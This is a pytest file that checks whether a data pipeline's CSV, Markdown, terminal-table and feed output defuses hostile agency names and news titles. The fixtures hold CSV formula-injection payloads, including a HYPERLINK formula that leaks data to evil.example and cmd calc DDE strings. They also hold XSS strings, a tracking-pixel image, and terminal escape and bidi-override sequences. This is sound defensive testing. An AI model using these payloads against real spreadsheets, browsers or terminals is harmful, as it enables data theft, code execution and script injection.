"""Hostile text from a real workbook (edited) and a news item, through every text output:
CSV cells a spreadsheet would run as formulas, Markdown that would render links, images or HTML,
and terminal escape or bidi-override characters in table output and in the feed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from lxml import etree
from markdown_it import MarkdownIt
from sqlalchemy.orm import Session

from pipeline.backfill import plan_backfill, run_backfill
from pipeline.news import load_context, record_items
from publish.render import csv_cell, markdown_cell, visible
from scheduler.seeds import load_baseline
from storage.database import open_database
from tests.commands import run
from tests.files import workbook
from tests.news_items import PAGE, STORY, item

# (case, agency name written into participatingAgencies05292025am.xlsx in place of a real one)
HOSTILE_NAMES = [
    ("formula =", '=HYPERLINK("http://evil.example/?leak="&A1,"Elmore County Sheriff")'),
    ("formula +", "+1+cmd|' /C calc'!A0 Etowah County Sheriff"),
    ("formula -", "-2+3+cmd|' /C calc'!A0 Limestone County Sheriff"),
    ("formula @", "@SUM(1+1)*cmd|' /C calc'!A0 Pike County Sheriff"),
    ("script", "<script>alert(1)</script> Kodiak Police Department"),
    ("img onerror", "<img src=x onerror=alert(1)> Mesa Police Department"),
    ("javascript link", "[Navajo County Sheriff](javascript:alert(1))"),
    ("tracking image", "![Pinal County Sheriff](http://tracker.example/pixel.png)"),
    ("RTL override", "\u202eYavapai County Sheriff"),
]
REPLACED = ["Elmore County Sheriff's Office", "Etowah County Sheriff's Office", "Limestone County Sheriff's Office",
            "Pike County Sheriff's Office", "Kodiak Police Department", "Mesa Police Department",
            "Navajo County Sheriff's Office", "Pinal County Sheriff's Office", "Yavapai County Sheriff's Office"]
# a file name a terminal would act on: set the window title, ring, reverse the line
HOSTILE_FILE = "participatingAgencies05292025am\x1b]0;pwned\x07\x1b[2J\u202e.xlsx"
UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile_db(db_url, edit_workbook):
    edited = edit_workbook("participatingAgencies05292025am.xlsx", HOSTILE_FILE,
                           dict(zip(REPLACED, [name for _, name in HOSTILE_NAMES], strict=True)))
    engine = open_database(db_url)
    results = run_backfill(engine, plan_backfill([workbook("participatingAgencies05282025am.xlsx"), edited],
                                                 as_of=dt.date(2025, 5, 29)))
    engine.dispose()
    assert [r.outcome.status for r in results] == ["accepted", "accepted"]
    return db_url


def formula_like(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@")) and not re.fullmatch(r"[-+]?\d+(\.\d+)?", cell)


def test_changes_csv_has_no_formula_and_no_control_character(hostile_db):
    output = run(hostile_db, "changes", "--format", "csv").output
    assert not UNSAFE.search(output)
    rows = list(csv.DictReader(io.StringIO(output)))
    assert not [cell for row in rows for cell in row.values() if formula_like(cell)]
    added = {row["new_value"] for row in rows if row["kind"] == "agreement.added"}
    for case, name in HOSTILE_NAMES[:4]:
        assert "'" + name in added, case        # shown as text, the whole name kept
    assert any(HOSTILE_FILE.replace("\x1b", "_x001B_").replace("\x07", "_x0007_").replace("\u202e", "_x202E_")
               in row["evidence"] for row in rows)


def test_changes_markdown_renders_no_link_image_or_html(hostile_db):
    output = run(hostile_db, "changes", "--format", "markdown").output
    assert not UNSAFE.search(output)
    html = MarkdownIt("commonmark").enable("table").render(output)   # raw HTML allowed: the threat
    for forbidden in ("<script", "<img", "<a ", "javascript:alert(1)\"", "onerror=alert(1)>"):
        assert forbidden not in html, forbidden
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Kodiak Police Department" in html
    assert "![Pinal County Sheriff](http://tracker.example/pixel.png)" in html    # shown, not fetched
    assert "[Navajo County Sheriff](javascript:alert(1))" in html


@pytest.mark.parametrize("command", [("changes",), ("snapshots",)])
def test_table_output_shows_escape_and_bidi_characters_inertly(hostile_db, command):
    output = run(hostile_db, *command).output
    assert not UNSAFE.search(output)
    # shown in the xlsx notation (long cells fold over lines, so look for the shortest piece)
    assert "_x202E" in re.sub(r"\s*│\s*", "", output) or "_x001B_" in output


def test_the_feed_builds_from_a_log_holding_control_characters(hostile_db, tmp_path):
    out = tmp_path / "changes.atom"
    for per in ("change", "snapshot"):
        result = run(hostile_db, "feed", "--out", str(out), "--per", per)
        assert result.exit_code == 0, result.output
        feed = etree.parse(str(out))
        text = "".join(feed.getroot().itertext())
        assert "participatingAgencies05292025am_x001B_]0;pwned_x0007__x001B_[2J_x202E_.xlsx" in text


@pytest.fixture
def hostile_news_db(tmp_path):
    url = f"sqlite:///{tmp_path / 'news.sqlite'}"
    engine = open_database(url)
    run_backfill(engine, plan_backfill([workbook("participatingAgencies12312025am.xlsx")]))
    with Session(engine) as session:
        context = load_context(session, load_baseline())
    story = item("https://times.example/2026/02/03/hostile", '=HYPERLINK("http://evil.example")&"' + STORY.title
                 + '\x1b[2J\x07"', STORY.text, publisher="@Times <img src=x onerror=alert(1)>")
    record_items(engine, "times", [PAGE, story], context)
    engine.dispose()
    return url


def test_news_csv_markdown_and_table_neutralise_a_hostile_title(hostile_news_db):
    as_csv = run(hostile_news_db, "news", "--format", "csv").output
    [row] = list(csv.DictReader(io.StringIO(as_csv)))
    assert row["title"].startswith("'=HYPERLINK(") and row["publisher"].startswith("'@Times")
    assert not UNSAFE.search(as_csv)
    html = MarkdownIt("commonmark").enable("table").render(run(hostile_news_db, "news", "--format", "markdown").output)
    assert "<img" not in html
    assert not UNSAFE.search(run(hostile_news_db, "news").output)


@pytest.mark.parametrize(("value", "as_csv", "as_markdown", "shown"), [
    ("=1+1", "'=1+1", "=1+1", "=1+1"),
    ("-12", "-12", "-12", "-12"),                      # a number stays a number
    ("+1.5", "+1.5", "+1.5", "+1.5"),
    ("-x", "'-x", "-x", "-x"),
    ("@cmd", "'@cmd", "@cmd", "@cmd"),
    ("a\x00b\x1b[31m\x07", "a_x0000_b_x001B_[31m_x0007_", r"a\_x0000\_b\_x001B\_\[31m\_x0007\_".replace("\\_", "_"),
     "a_x0000_b_x001B_[31m_x0007_"),
    ("x\u202ey", "x_x202E_y", "x_x202E_y", "x_x202E_y"),
    ("a|b <b>", "a|b <b>", r"a\|b \<b\>", "a|b <b>"),
    ("[x](javascript:y)", "[x](javascript:y)", r"\[x\]\(javascript:y\)", "[x](javascript:y)"),
    ("AT&T", "AT&T", r"AT\&T", "AT&T"),
])
def test_cells(value, as_csv, as_markdown, shown):
    assert (csv_cell(value), markdown_cell(value), visible(value)) == (as_csv, as_markdown, shown)


def test_the_review_prompt_shows_escape_characters_inertly(hostile_db):
    result = run(hostile_db, "review", "--kind", "agreement.added", "--limit", "1", input="q\n")
    assert result.exit_code == 0, result.output
    assert not UNSAFE.search(result.output)
    assert "pwned_x0007__x001B_[2J_x202E_.xlsx" in result.output
